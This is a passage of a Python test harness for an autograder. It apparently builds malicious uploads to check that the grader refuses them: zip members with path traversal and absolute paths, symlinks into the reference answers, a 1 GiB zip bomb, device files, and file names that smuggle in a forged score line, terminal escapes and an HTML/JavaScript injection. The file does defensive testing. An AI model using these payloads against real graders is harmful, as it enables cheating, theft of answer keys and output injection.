    os.mknod(os.path.join(into, TIMELINE), 0o644 | stat.S_IFCHR, os.makedev(1, 3))
    os.makedirs(os.path.join(into, "extra"))
    os.symlink(os.path.join(reference, "minddp"), os.path.join(into, "extra", "minddp"))
    os.symlink("/autograder/source/reference/answers.py", os.path.join(into, "answers-link.py"))
    return into


def _shared_reference(case_source: str, path: str) -> str:
    """The runner's shared build of the source (the case's copy does not exist yet at build time)."""
    return os.path.join(os.path.dirname(os.path.dirname(case_source)), "source", "reference", path)


def _zip(path: str, members: list) -> str:
    """members: (name, bytes) for regular files, or (ZipInfo, bytes)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return path


def _regular_members(skip: tuple = ()) -> list:
    return [(p, solution(p).encode()) for p in _student_paths() if p not in skip]


def _zip_with_links(into: str, case_source: str) -> str:
    """A folder holding one zip: reducer.py is a symlink member (to the reference's file), plus members
    named ../../evil.py and /etc/evil.py."""
    os.makedirs(into)
    link = zipfile.ZipInfo(REDUCER)
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    members = _regular_members(skip=(REDUCER,)) + [
        (link, b"/autograder/source/reference/minddp/reducer.py"),
        ("../../minddp/reducer.py", solution(REDUCER).encode()), ("/etc/minddp/reducer.py", b"x = 1\n")]
    _zip(os.path.join(into, "submission.zip"), members)
    return into


def _zip_bomb(into: str, case_source: str) -> str:
    """A zip upload (the file itself): ddp.py inflates to 1 GiB, and 6,000 more members follow."""
    os.makedirs(into)
    path = os.path.join(into, "submission.zip")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in _regular_members(skip=(DDP,)):
            zf.writestr(name, data)
        bomb = zipfile.ZipInfo(DDP)
        bomb.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(bomb, "w", force_zip64=True) as f:
            chunk = b"\0" * 2**24
            for _ in range(64):
                f.write(chunk)
        for i in range(6000):
            zf.writestr(f"junk/{i}.txt", b"")
    return path


def _corrupt_zip(into: str, case_source: str) -> str:
    os.makedirs(into)
    with open(os.path.join(into, "submission.zip"), "wb") as f:
        f.write(b"PK\x03\x04" + os.urandom(5000) + b"PK\x05\x06" + b"\xff" * 18)
    return into


def _zip_in_zip(into: str, case_source: str) -> str:
    os.makedirs(into)
    inner = os.path.join(into, "inner.zip")
    _zip(inner, _regular_members())
    with open(inner, "rb") as f:
        data = f.read()
    os.unlink(inner)
    _zip(os.path.join(into, "submission.zip"), [("inner.zip", data)])
    return into


FORGED_LINE = "Total (bonus is extra)        999.0 / 100.0"


def _crafted_names(into: str, case_source: str) -> str:
    """A zip whose extra copies of the student files are named with a newline and a forged score line,
    terminal escapes, and HTML: the grader names duplicates in its top-level output."""
    os.makedirs(into)
    members = _regular_members() + [
        (f"x\n{FORGED_LINE}\nFiles graded: all/{REDUCER}", solution(REDUCER).encode()),
        (f"\x1b[2J\x1b[31mred/{DDP}", solution(DDP).encode()),
        (f"<img src=x onerror=alert(1)>/{BUCKETING}", solution(BUCKETING).encode())]
    _zip(os.path.join(into, "submission.zip"), members)
    return into


def _no_forged_lines(results: dict, isolated: bool) -> list:
    lines = results.get("output", "").splitlines()
    problems = [f"the top-level output holds a line a file name forged: {line!r}" for line in lines
                if line.startswith(FORGED_LINE)]
    return problems + _no_control_characters(results, isolated)


UPLOADS: list = [
    Upload(Case("upload-links-devices", "folder upload of a symlink into the reference, a FIFO, a hard link to "
                "the reference's reducer.py, a symlink to /dev/zero, a character device and a folder symlink to "
                "the reference's minddp/: each refused with a message naming it",
                zero=("1", "2", "3", "4", "5", "A", "B"), full=("6",),
                says={"top": "a symbolic link", "1": "was not found"},
                check=lambda r, i: [p for p in ("not a regular file", "hard link") if p not in r.get("output", "")]),
           _links_and_devices),
    Upload(Case("upload-zip-links", "a zip (in a folder) whose reducer.py member is a symlink to the reference, "
                "plus members ../../minddp/reducer.py and /etc/minddp/reducer.py",
                zero=("3", "A", "B"), says={"top": "refused"}), _zip_with_links),
    Upload(Case("upload-zip-bomb", "a zip upload whose ddp.py inflates to 1 GiB, followed by 6,000 members",
                zero=("4", "A", "B"), says={"top": "larger than"}), _zip_bomb),
    Upload(Case("upload-corrupt-zip", "a folder holding one corrupt .zip", zero=EVERY_PART, full=(), score=(0, 0),
                says={"top": "not a readable zip"}), _corrupt_zip),
    Upload(Case("upload-zip-in-zip", "a zip whose only member is a zip of the files", zero=EVERY_PART, full=(),
                score=(0, 0), says={"top": "was not found"}), _zip_in_zip),
    Upload(Case("upload-crafted-names", "duplicates of the student files named with a newline and a forged "
                "score line, terminal escapes, and HTML", check=_no_forged_lines), _crafted_names),
]


def upload_outcomes(test, uploads: list, jobs: int = 2) -> list:
    """Grade ``uploads`` with the runner's machinery (its make_submission only writes files): ``test`` is a
    ``run.SelfTest`` that has graded the solutions (its reference cache and baseline are reused)."""
    import shutil
    from concurrent.futures import ThreadPoolExecutor

    from selftest import run

    def grade_one(upload: Upload):
        folder = test.folder(upload.case.name)
        submission = upload.build(os.path.join(folder, "submission"), os.path.join(folder, "source"))
        cache = test.cache + ".copy-" + os.path.basename(folder)
        shutil.copyfile(test.cache, cache)
        graded = run.grade(test.source, submission, folder, cache, python=test.python, limits=test.limits,
                           room=test.room, jail=test.jail)
        problems = list(graded.problems)
        if graded.results is not None:
            problems += run.schema_problems(graded.results) or run.expectation_problems(
                upload.case, graded.results, test.baseline)
        return run.Outcome(upload.case, graded, problems)

    with ThreadPoolExecutor(max_workers=jobs) as pool:
        return list(pool.map(grade_one, uploads))


def grade_uploads(only: list | None = None, jobs: int = 2, keep: bool = False) -> int:
    import shutil

    from selftest import run
    from selftest.cases import CASES

    test = run.SelfTest()
    first = test.grade_case(next(c for c in CASES if c.name == "solutions"))
    outcomes = upload_outcomes(test, [u for u in UPLOADS if not only or u.case.name in only], jobs)
    print(run.table([first] + outcomes))
    print(f"work folder {test.workdir}")
    if not keep:
        shutil.rmtree(test.workdir, ignore_errors=True)
    return 0 if first.passed and all(o.passed for o in outcomes) else 1


def grade_with_gradescope_permissions(keep: bool = False) -> int:
    """Grade the solutions with the source's permissions as Gradescope leaves them: setup.sh runs
    `chmod -R go-rwx /autograder/source` when the image is built. Must still score full marks."""
    import shutil
    import subprocess

    from build import expected_score

    from selftest import run
    from selftest.cases import CASES

    test = run.SelfTest()
    subprocess.run(["chmod", "-R", "go-rwx", test.source], check=True)  # as setup.sh does
    outcome = test.grade_case(next(c for c in CASES if c.name == "solutions"), cached=False)
    problems = list(outcome.problems)
    results = outcome.graded.results or {}
    full = expected_score("full")
    if results.get("score") != full:
        problems.append(f"the solutions score {results.get('score')} instead of {full:g} once the source is mode 700 "
                        "(setup.sh): " + "; ".join(f"{t['number']}: {t['output'][:120]!r}" for t in
                                                   results.get("tests", []) if t.get("status") != "passed")[:1500])
    print("gradescope-permissions:", "PASS" if not problems else "FAIL")
    for problem in problems:
        print("  - " + problem)
    print(f"work folder {test.workdir}")
    if not keep:
        shutil.rmtree(test.workdir, ignore_errors=True)
    return 0 if not problems else 1


if __name__ == "__main__":
    import argparse
    parser = argparse.ArgumentParser(description="grade the upload attacks")
    parser.add_argument("command", choices=["uploads", "permissions"])
    parser.add_argument("--only")
    parser.add_argument("--jobs", type=int, default=2)
    parser.add_argument("--keep", action="store_true")
    arguments = parser.parse_args()
    if arguments.command == "permissions":
        sys.exit(grade_with_gradescope_permissions(arguments.keep))
    sys.exit(grade_uploads(arguments.only.split(",") if arguments.only else None, arguments.jobs, arguments.keep))
